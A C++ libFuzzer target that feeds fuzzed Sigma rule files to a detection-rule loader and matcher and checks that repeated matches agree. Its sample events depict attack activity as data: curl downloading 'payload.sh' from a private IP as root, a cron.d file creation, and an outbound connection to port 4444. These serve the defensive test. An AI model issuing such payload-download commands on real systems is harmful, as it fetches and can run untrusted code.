// libFuzzer target for the Sigma rule loader: YAML parsing (libyaml's
// node tree through yaml_tree.h), the rule model, the condition
// parser, value compilation (wildcards, |re, |cidr, |windash,
// |base64offset), compilation into matchers, and matching a few events.
// The input is one rule file.
//
//   scripts/fuzz [seconds]     (builds with clang into build-fuzz and runs)
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "signals/sigma_loader.h"
#include "signals/signal_matcher.h"

namespace {

using namespace recorder;

std::vector<TypedEvent> SampleEvents() {
  std::vector<TypedEvent> events;
  TypedEvent base;
  base.header.time_ms = 1000;
  base.header.syscall = "execve";
  base.header.key = "susp";
  base.subject.pid = 42;
  base.subject.ppid = 1;
  base.subject.uid = 0;
  base.subject.auid = 1000;
  base.subject.exe = "/usr/bin/curl";
  base.enrichment.user = "root";
  ProcessStart start;
  start.argv = {"curl", "-o", "/tmp/x", "http://10.0.0.1/payload.sh"};
  start.cwd = "/root";
  base.body = start;
  events.push_back(base);
  FileEvent file;
  file.operation = FileOperation::kCreate;
  file.path = "/etc/cron.d/job";
  base.header.syscall = "openat";
  base.body = file;
  events.push_back(base);
  NetworkEvent net;
  net.direction = NetworkDirection::kOutbound;
  net.protocol = NetworkProtocol::kTcp;
  net.family = AddressFamily::kInet6;
  net.remote_address = "fd00::1";
  net.remote_port = 4444;
  net.local_address = "::1";
  net.local_port = 50000;
  base.header.syscall = "connect";
  base.body = net;
  events.push_back(base);
  return events;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  static const std::vector<TypedEvent> events = SampleEvents();
  const std::string_view text(reinterpret_cast<const char*>(data), size);
  for (bool substrings : {true, false}) {
    signals::LoadOptions options;
    options.substring_matching = substrings;
    std::optional<signals::SigmaRule> rule;
    signals::RuleReport report = signals::LoadSigmaText("fuzz.yml", text, options, &rule);
    if (report.outcome == signals::Outcome::kLoaded && !rule) __builtin_trap();
    if (!rule) continue;
    std::vector<signals::SigmaRule> rules;
    rules.push_back(std::move(*rule));
    auto matcher = signals::SignalMatcher::Compile(std::move(rules));
    if (!matcher.ok()) continue;
    // Twice: the second round is answered from the remembered outcomes,
    // which must be the first round's.
    signals::MatchState state;
    std::vector<signals::SignalMatch> first, again;
    for (const TypedEvent& event : events) (*matcher)->Match(event, nullptr, &state, &first);
    for (const TypedEvent& event : events) (*matcher)->Match(event, nullptr, &state, &again);
    if (first.size() != again.size()) __builtin_trap();
    for (size_t i = 0; i < first.size(); ++i)
      if (first[i].rule != again[i].rule || first[i].selection != again[i].selection)
        __builtin_trap();
  }
  return 0;
}
